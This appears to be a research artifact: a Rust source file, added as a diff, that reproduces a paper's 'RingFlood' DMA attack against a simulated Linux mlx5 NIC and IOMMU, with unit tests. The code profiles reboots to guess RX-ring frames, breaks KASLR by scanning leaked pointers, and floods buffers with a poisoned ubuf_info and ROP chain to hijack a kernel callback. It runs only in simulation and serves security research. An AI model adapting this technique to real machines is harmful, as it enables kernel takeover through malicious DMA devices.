@@ -1,0 +1,354 @@
+//! The RingFlood compound attack (§5.3).
+//!
+//! Missing attribute: the KVA of a buffer the device can poison. The
+//! device has *IOVAs* for every RX buffer but no KVAs. RingFlood closes
+//! the gap with boot determinism:
+//!
+//! 1. **Offline**: the attacker profiles an identical machine over many
+//!    reboots and finds the PFN that most often backs the RX ring.
+//! 2. **Online**: leaked pointers on a readable mapped page (slab
+//!    freelist pointers → `page_offset_base`, a socket's `init_net` →
+//!    text base) break KASLR.
+//! 3. The device floods *every* RX buffer with the poisoned `ubuf_info` +
+//!    ROP chain at a fixed in-buffer offset, and points every buffer's
+//!    `destructor_arg` at `page_offset_base + (guessed_pfn << 12) +
+//!    (buffer's own page offset + poison offset)`. If the guessed frame
+//!    hosts *any* flooded buffer at a matching offset, whichever skb the
+//!    kernel frees first takes the bait.
+
+use crate::cpu::MiniCpu;
+use crate::image::KernelImage;
+use crate::kaslr::AttackerKnowledge;
+use crate::rop::PoisonedBuffer;
+use crate::window::{rx_with_window, PoisonPlan};
+use devsim::testbed::{MemConfigLite, TestbedConfig};
+use devsim::Testbed;
+use dma_core::vuln::{AttackOutcome, WindowPath};
+use dma_core::{DmaError, Pfn, Result, PAGE_MASK, PAGE_SHIFT};
+use sim_iommu::{InvalidationMode, IommuConfig};
+use sim_net::driver::{AllocPolicy, DriverConfig, UnmapOrder};
+use sim_net::packet::Packet;
+use sim_net::stack::StackConfig;
+use std::collections::HashMap;
+
+/// In-buffer offset at which the flood deposits the poison. Chosen to
+/// clear the headroom + any small packet, and to stay below the shared
+/// info for 2 KiB buffers.
+pub const POISON_OFFSET: usize = 1024;
+
+/// Driver profile matching the paper's kernel-5.0 mlx5 configuration:
+/// 2 KiB page_frag buffers (HW LRO disabled).
+pub fn kernel50_driver() -> DriverConfig {
+    DriverConfig {
+        name: "mlx5_core-5.0",
+        rx_buf_size: 2048,
+        alloc: AllocPolicy::PageFrag,
+        map_ctrl_block: true,
+        ..Default::default()
+    }
+}
+
+/// Driver profile matching the kernel-4.15 configuration: HW LRO on,
+/// 64 KiB buffers — a much larger, more predictable footprint.
+pub fn kernel415_driver() -> DriverConfig {
+    DriverConfig {
+        name: "mlx5_core-4.15",
+        rx_buf_size: 65536,
+        alloc: AllocPolicy::Kmalloc,
+        map_ctrl_block: true,
+        ..Default::default()
+    }
+}
+
+/// Boots a victim/profiling machine for boot seed `seed`.
+pub fn boot(driver: DriverConfig, window: WindowPath, seed: u64) -> Result<Testbed> {
+    let driver = DriverConfig {
+        unmap_order: match window {
+            WindowPath::UnmapAfterBuild => UnmapOrder::BuildThenUnmap,
+            _ => UnmapOrder::UnmapThenBuild,
+        },
+        ..driver
+    };
+    let iommu = IommuConfig {
+        mode: match window {
+            WindowPath::DeferredIotlb => InvalidationMode::Deferred,
+            _ => InvalidationMode::Strict,
+        },
+        ..Default::default()
+    };
+    Testbed::new(TestbedConfig {
+        mem: MemConfigLite {
+            kaslr_seed: Some(seed.wrapping_mul(0x9e37) ^ 0x4a51),
+            ..Default::default()
+        },
+        iommu,
+        driver,
+        stack: StackConfig::default(),
+        boot_noise_seed: Some(seed),
+    })
+}
+
+/// Result of the §5.3 reboot survey.
+#[derive(Clone, Debug)]
+pub struct BootSurvey {
+    /// Number of simulated reboots.
+    pub boots: usize,
+    /// How many boots each PFN backed an RX buffer in.
+    pub freq: HashMap<u64, u32>,
+}
+
+impl BootSurvey {
+    /// Profiles `boots` reboots of an identical setup (seeds
+    /// `base_seed..base_seed+boots`).
+    pub fn run(driver: DriverConfig, boots: usize, base_seed: u64) -> Result<BootSurvey> {
+        let mut freq: HashMap<u64, u32> = HashMap::new();
+        for i in 0..boots {
+            let tb = boot(driver, WindowPath::NeighborIova, base_seed + i as u64)?;
+            let mut seen = std::collections::HashSet::new();
+            for slot in tb.driver.posted_slots() {
+                let pfn = tb.mem.layout.kva_to_pfn(slot.mapping.kva)?;
+                for p in 0..slot.mapping.pages as u64 {
+                    seen.insert(pfn.raw() + p);
+                }
+            }
+            for pfn in seen {
+                *freq.entry(pfn).or_insert(0) += 1;
+            }
+        }
+        Ok(BootSurvey { boots, freq })
+    }
+
+    /// The PFN seen in the most boots, with its repeat fraction.
+    pub fn most_common(&self) -> Option<(Pfn, f64)> {
+        self.freq
+            .iter()
+            .max_by_key(|(pfn, count)| (**count, u64::MAX - **pfn))
+            .map(|(pfn, count)| (Pfn(*pfn), *count as f64 / self.boots as f64))
+    }
+
+    /// Number of PFNs whose repeat fraction exceeds `threshold`.
+    pub fn pfns_above(&self, threshold: f64) -> usize {
+        self.freq
+            .values()
+            .filter(|c| (**c as f64 / self.boots as f64) > threshold)
+            .count()
+    }
+}
+
+/// Outcome of one RingFlood attempt.
+#[derive(Clone, Debug)]
+pub struct RingFloodReport {
+    /// The attack outcome.
+    pub outcome: AttackOutcome,
+    /// PFN guessed from the survey.
+    pub guessed_pfn: Pfn,
+    /// Whether the guessed frame actually backed an RX buffer this boot.
+    pub guess_was_resident: bool,
+    /// How many skb frees were triggered before the verdict.
+    pub triggers: usize,
+    /// KASLR knowledge recovered during the attack.
+    pub knowledge: AttackerKnowledge,
+}
+
+/// Runs the full RingFlood attack against a fresh boot with seed
+/// `victim_seed`, using a guess from `survey`.
+pub fn run(
+    image: &KernelImage,
+    driver: DriverConfig,
+    window: WindowPath,
+    victim_seed: u64,
+    survey: &BootSurvey,
+) -> Result<RingFloodReport> {
+    let mut tb = boot(driver, window, victim_seed)?;
+    tb.mem.install_text(&image.bytes);
+
+    // --- Step 1: break KASLR from the readable control-block page. ---
+    // Background kernel activity puts socket objects (each leaking both
+    // &init_net and a heap pointer) on the kmalloc-512 page the driver's
+    // command queue shares. The device re-scans between churn rounds.
+    let knowledge = break_kaslr(&mut tb)?;
+    if knowledge.text_base.is_none() || knowledge.page_offset_base.is_none() {
+        return Ok(RingFloodReport {
+            outcome: AttackOutcome::Blocked("KASLR break failed: required leaks not found"),
+            guessed_pfn: Pfn(0),
+            guess_was_resident: false,
+            triggers: 0,
+            knowledge,
+        });
+    }
+
+    // --- Step 2: flood every RX buffer with the poison. ---
+    let poison = PoisonedBuffer::build(image, &knowledge)?;
+    let descs = tb.driver.rx_descriptors();
+    for &(iova, _) in &descs {
+        tb.nic.deposit(
+            &mut tb.ctx,
+            &mut tb.iommu,
+            &mut tb.mem.phys,
+            iova,
+            POISON_OFFSET,
+            &poison.bytes,
+        )?;
+    }
+
+    // --- Step 3: guess the frame, derive the KVA, pull the trigger. ---
+    let (guessed_pfn, _) = survey
+        .most_common()
+        .ok_or(DmaError::AttackFailed("empty survey"))?;
+    let guess_was_resident = tb.driver.posted_slots().any(|s| {
+        tb.mem
+            .layout
+            .kva_to_pfn(dma_core::Kva(s.mapping.kva.raw() + POISON_OFFSET as u64))
+            .map(|p| p == guessed_pfn)
+            .unwrap_or(false)
+    });
+
+    let cpu = MiniCpu::new(image, tb.mem.layout.text_base);
+    let mut triggers = 0usize;
+    // Trigger skb frees until one picks up a valid poisoned ubuf (or the
+    // ring cycles once without a hit).
+    for _ in 0..descs.len() {
+        let head_off = tb
+            .driver
+            .rx_descriptors()
+            .first()
+            .map(|(iova, _)| (iova.raw() + POISON_OFFSET as u64) & PAGE_MASK)
+            .ok_or(DmaError::RingEmpty)?;
+        let poison_kva = knowledge.pfn_to_kva(guessed_pfn)?.raw() & !PAGE_MASK | head_off;
+        let plan = PoisonPlan { poison_kva };
+        let pkt = Packet::udp(66, 1, b"trigger".to_vec());
+        let (skb, poisoned) = rx_with_window(&mut tb, window, &pkt, &plan)?;
+        // The stack delivers locally and frees the skb.
+        tb.stack
+            .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
+        triggers += 1;
+        if !poisoned {
+            continue;
+        }
+        if let Some(pending) = tb.stack.pending_callbacks.pop() {
+            let outcome = crate::hijack::fire(&cpu, &mut tb.ctx, &tb.mem, pending, triggers);
+            if outcome.succeeded() {
+                return Ok(RingFloodReport {
+                    outcome,
+                    guessed_pfn,
+                    guess_was_resident,
+                    triggers,
+                    knowledge,
+                });
+            }
+        }
+    }
+    Ok(RingFloodReport {
+        outcome: AttackOutcome::Blocked("no freed skb consumed a valid poisoned ubuf"),
+        guessed_pfn,
+        guess_was_resident,
+        triggers,
+        knowledge,
+    })
+}
+
+/// Breaks KASLR by repeatedly scanning the driver's bidirectionally
+/// mapped control-block page while benign socket churn populates the
+/// surrounding kmalloc-512 slots (§2.4: "scanning leaked pages during
+/// I/O").
+pub fn break_kaslr(tb: &mut Testbed) -> Result<AttackerKnowledge> {
+    let (_kva, ctrl_map) = tb.driver.ctrl_block.ok_or(DmaError::AttackFailed(
+        "driver has no mapped control block to scan",
+    ))?;
+    let scan_base = dma_core::Iova(ctrl_map.iova.raw() & !PAGE_MASK);
+    let mut knowledge = AttackerKnowledge::new();
+    for round in 0..8u32 {
+        // Socket churn: connections being opened (kernel side).
+        for i in 0..7u32 {
+            tb.stack
+                .socket_for(&mut tb.ctx, &mut tb.mem, (round * 100 + i, 1, 6))?;
+        }
+        let leaks = tb.nic.scan_for_pointers(
+            &mut tb.ctx,
+            &mut tb.iommu,
+            &tb.mem.phys,
+            scan_base,
+            dma_core::PAGE_SIZE,
+        )?;
+        knowledge.absorb(&leaks);
+        if knowledge.text_base.is_some() && knowledge.page_offset_base.is_some() {
+            break;
+        }
+    }
+    Ok(knowledge)
+}
+
+/// Approximate per-boot RX memory footprint in bytes (drives the §5.3
+/// success-probability discussion).
+pub fn rx_footprint(driver: &DriverConfig) -> u64 {
+    (driver.rx_ring_size * driver.rx_buf_size) as u64
+}
+
+/// Convenience: pages the RX ring spans.
+pub fn rx_footprint_pages(driver: &DriverConfig) -> u64 {
+    rx_footprint(driver) >> PAGE_SHIFT
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn survey_aggregation_math() {
+        let survey = BootSurvey {
+            boots: 10,
+            freq: [(100u64, 10u32), (101, 6), (102, 5), (103, 1)]
+                .into_iter()
+                .collect(),
+        };
+        let (pfn, frac) = survey.most_common().unwrap();
+        assert_eq!(pfn, Pfn(100));
+        assert!((frac - 1.0).abs() < f64::EPSILON);
+        assert_eq!(survey.pfns_above(0.5), 2, "strictly above one half");
+        assert_eq!(survey.pfns_above(0.95), 1);
+        assert_eq!(survey.pfns_above(0.0), 4);
+    }
+
+    #[test]
+    fn most_common_breaks_ties_deterministically() {
+        let survey = BootSurvey {
+            boots: 4,
+            freq: [(7u64, 2u32), (5, 2)].into_iter().collect(),
+        };
+        // Equal counts: the lower PFN wins (u64::MAX - pfn tiebreak).
+        assert_eq!(survey.most_common().unwrap().0, Pfn(5));
+    }
+
+    #[test]
+    fn footprint_math_matches_configs() {
+        let k50 = kernel50_driver();
+        assert_eq!(rx_footprint(&k50), 64 * 2048);
+        assert_eq!(rx_footprint_pages(&k50), 32);
+        let k415 = kernel415_driver();
+        assert_eq!(rx_footprint(&k415), 64 * 65536);
+        assert_eq!(rx_footprint_pages(&k415), 1024);
+        assert!(
+            rx_footprint(&k415) > 30 * rx_footprint(&k50),
+            "the §5.3 footprint gap"
+        );
+    }
+
+    #[test]
+    fn window_selection_shapes_the_boot() {
+        // Path (i) boots a build-then-unmap driver; the others boot the
+        // correct ordering.
+        let a = boot(kernel50_driver(), WindowPath::UnmapAfterBuild, 1).unwrap();
+        assert_eq!(
+            a.driver.cfg.unmap_order,
+            sim_net::driver::UnmapOrder::BuildThenUnmap
+        );
+        let b = boot(kernel50_driver(), WindowPath::DeferredIotlb, 1).unwrap();
+        assert_eq!(
+            b.driver.cfg.unmap_order,
+            sim_net::driver::UnmapOrder::UnmapThenBuild
+        );
+        assert_eq!(b.iommu.config.mode, sim_iommu::InvalidationMode::Deferred);
+        let c = boot(kernel50_driver(), WindowPath::NeighborIova, 1).unwrap();
+        assert_eq!(c.iommu.config.mode, sim_iommu::InvalidationMode::Strict);
+    }
+}
